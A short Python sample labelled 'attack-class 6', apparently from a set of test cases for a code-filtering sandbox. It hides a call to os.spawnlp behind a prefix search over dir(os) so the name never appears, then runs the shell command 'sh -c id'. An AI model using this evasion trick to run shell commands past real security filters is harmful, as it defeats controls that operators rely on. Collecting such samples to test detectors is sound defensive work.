# attack-class: 6
# title: filter over dir(os) then getattr
# why: the attribute name never appears; it is found by prefix in dir()

import os

name = next(filter(lambda n: n.startswith("spawnl") and n.endswith("p"), dir(os)))
getattr(os, name)(os.P_WAIT, "sh", "sh", "-c", "id")
